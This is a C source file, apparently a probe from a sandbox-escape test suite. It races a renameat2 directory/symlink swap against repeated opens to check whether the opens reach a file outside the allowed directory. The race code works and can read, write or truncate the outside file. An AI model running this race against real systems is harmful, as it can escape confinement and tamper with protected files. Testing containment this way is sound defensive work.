// Swaps a directory on the way for a symbolic link that leads outside, while files below it are opened.
// toctou_directory flip DIR LINK MILLISECONDS | open DIR OUTSIDE_FILE ROUNDS | both DIR LINK OUTSIDE_FILE
// ROUNDS
#include <sys/wait.h>
#include <time.h>

#include "victim.h"

static long now_ms(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

static int flip(const char* directory, const char* link, long milliseconds, int started) {
  int flips = 0;
  for (long end = now_ms() + milliseconds; now_ms() < end;) {
    if (renameat2(AT_FDCWD, directory, AT_FDCWD, link, RENAME_EXCHANGE) == 0 && ++flips == 10 &&
        started >= 0) {
      need("write", write(started, "x", 1));
    }
  }
  return flips;
}

static void storm(const char* directory, const char* outside, int rounds) {
  struct stat forbidden, opened;
  need("stat of the outside file", stat(outside, &forbidden));
  char path[4096];
  snprintf(path, sizeof path, "%s/file", directory);
  int flags[] = {O_RDONLY, O_WRONLY, O_RDWR | O_CREAT, O_WRONLY | O_TRUNC};
  int allowed = 0, reached = 0, refused = 0;
  // On one busy core the two processes may take long turns: go on until both places have been met.
  for (int round = 0; round < rounds || (round < 50 * rounds && (!allowed || !(reached + refused)));
       round++) {
    int fd = open(path, flags[round % 4], 0600);
    if (fd < 0) {
      refused++;
      continue;
    }
    need("fstat", fstat(fd, &opened));
    if (opened.st_ino == forbidden.st_ino && opened.st_dev == forbidden.st_dev)
      reached++;
    else
      allowed++;
    close(fd);
  }
  finish(reached              ? SUCCEEDED
         : allowed && refused ? REFUSED
                              : BROKEN,
         "reached %d allowed %d refused %d", reached, allowed, refused);
}

int main(int argc, char** argv) {
  const char* mode = argument(argc, argv, 1);
  if (strcmp(mode, "flip") == 0) {
    int flips = flip(argument(argc, argv, 2), argument(argc, argv, 3), atol(argument(argc, argv, 4)), -1);
    finish(flips ? SUCCEEDED : BROKEN, "flipped %d times", flips);
  }
  if (strcmp(mode, "open") == 0)
    storm(argument(argc, argv, 2), argument(argc, argv, 3), atoi(argument(argc, argv, 4)));
  int started[2];
  need("pipe", pipe(started));
  pid_t flipper = (pid_t)need("fork", fork());
  if (flipper == 0)
    _exit(flip(argument(argc, argv, 2), argument(argc, argv, 3), 60000, started[1]) > 0 ? 0 : 1);
  char go;
  need("the first flips", read(started[0], &go, 1));
  int rounds = atoi(argument(argc, argv, 5));
  pid_t opener = (pid_t)need("fork", fork());
  if (opener == 0) storm(argv[2], argument(argc, argv, 4), rounds);
  int status;
  need("waitpid", waitpid(opener, &status, 0));
  kill(flipper, SIGKILL);
  return WIFEXITED(status) ? WEXITSTATUS(status) : BROKEN;
}
